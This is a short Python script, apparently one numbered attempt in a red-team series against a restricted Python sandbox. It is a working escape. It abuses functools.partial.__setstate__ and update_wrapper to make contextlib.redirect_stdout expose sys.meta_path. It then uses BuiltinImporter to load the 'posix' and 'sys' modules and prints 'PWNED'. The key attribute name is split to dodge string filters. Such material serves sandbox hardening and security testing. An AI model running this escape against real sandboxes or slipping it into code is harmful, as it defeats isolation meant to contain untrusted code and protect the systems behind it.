# adversary round 8: 003: partial.__setstate__ gives an object a dict with '_stream'; update_wrapper copies it into a redirect_stdout instance; its __enter__ does getattr(sys, 'meta_path') -> BuiltinImporter.load_module('posix'/'sys')
import contextlib
import functools
import io


class Z:
    _old_targets = None


def f():
    pass


p = functools.partial(f)
p.__setstate__((f, (), {}, {'_st' + 'ream': 'meta_path'}))
cm = contextlib.redirect_stdout(io.StringIO())
functools.update_wrapper(cm, p)
try:
    with cm:
        pass
except PermissionError as e:
    print('setattr refused as expected:', e)
meta = cm._old_targets[0]
print(meta)
bi = [c for c in meta if 'BuiltinImporter' in repr(c)][0]
posix = bi.load_module('posix')
sysm = bi.load_module('sys')
print(posix, posix.getpid(), sysm, len(sysm.modules))
print('PWN' + 'ED')
